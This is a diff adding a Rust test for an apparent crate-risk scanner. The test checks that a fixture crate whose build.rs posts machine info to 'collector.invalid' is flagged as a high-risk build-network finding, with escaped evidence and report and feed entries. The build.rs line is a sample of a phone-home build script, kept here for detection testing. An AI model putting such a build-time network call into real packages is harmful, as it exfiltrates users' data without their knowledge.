@@ -428,3 +428,94 @@ async fn raw_get(mut stream: tokio::net::TcpStream, url: &str) -> (u16, String, 
     let status = head.split(' ').nth(1).unwrap().parse().unwrap();
     (status, head.to_ascii_lowercase(), body.to_owned())
 }
+
+#[test]
+fn risk_findings_reach_the_page_the_evidence_the_report_and_the_feed() {
+    // The pattern of a build script that phones home; it is never run.
+    let phoning = Fixture::new("phoning-home", "0.1.0", "description = \"Colours\"\nrepository = \"https://github.com/o/ph\"").file(
+        "build.rs",
+        "fn main() {\n    // Reports the machine.\n    let _ = ureq::post(\"https://collector.invalid/report\").send_string(\"os\");\n}\n",
+    );
+    let reg = FixtureRegistry::start(
+        &[
+            phoning,
+            Fixture::new("quiet", "1.0.0", "repository = \"https://github.com/o/q\""),
+        ],
+        &[],
+    );
+    let tmp = tempfile::tempdir().unwrap();
+    ok(build(
+        tmp.path(),
+        &reg,
+        "public",
+        &["--crates", "phoning-home,quiet"],
+    ));
+    let site = tmp.path().join("public");
+    let report = json(site.join("crates/phoning-home.json"));
+    assert_eq!(report["risk"]["level"], "high");
+    let finding = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["code"] == "build-network")
+        .expect("build-network");
+    assert_eq!(
+        (
+            finding["file"].as_str(),
+            finding["line"].as_u64(),
+            finding["location"].as_str()
+        ),
+        (Some("build.rs"), Some(3), Some("build"))
+    );
+    assert_eq!(finding["kind"], "fact");
+    assert_eq!(
+        json(site.join("crates/quiet.json"))["risk"]["level"],
+        "none"
+    );
+
+    let page = read(site.join("crates/phoning-home/index.html"));
+    let risk_at = page.find("id=risk").expect("a Risk section");
+    assert!(
+        risk_at < page.find("id=build").unwrap(),
+        "the Risk section comes first"
+    );
+    assert!(page.contains("build-network") && page.contains("/site/methodology/#cap-network"));
+    let evidence_dir = site.join("crates/phoning-home/evidence");
+    let pages: Vec<_> = std::fs::read_dir(&evidence_dir)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().into_string().unwrap())
+        .collect();
+    assert_eq!(pages.len(), 1, "{pages:?}");
+    assert!(
+        page.contains(&format!(
+            "/site/crates/phoning-home/evidence/{}#L3",
+            pages[0]
+        )),
+        "the finding links to its line"
+    );
+    let evidence = read(evidence_dir.join(&pages[0]));
+    assert!(
+        evidence.contains("<tr class=hit id=L3>"),
+        "line 3 is highlighted"
+    );
+    assert!(!evidence.contains("class=hit id=L2>"), "and no other");
+    assert!(
+        evidence.contains("collector.invalid"),
+        "the source is shown"
+    );
+    assert!(!evidence.contains("<script"), "and escaped");
+
+    let report_page = read(site.join("report/index.html"));
+    assert!(report_page.contains("/site/crates/phoning-home/#risk"));
+    let feed = read(site.join("feed.xml"));
+    assert!(
+        feed.contains("<entry>")
+            && feed.contains("phoning-home 0.1.0: high risk")
+            && feed.contains("build-network")
+    );
+    assert!(!feed.contains("quiet"));
+    assert!(
+        tmp.path().join("cache/state/seen-findings.json").is_file(),
+        "the next run's feed remembers what was seen"
+    );
+}
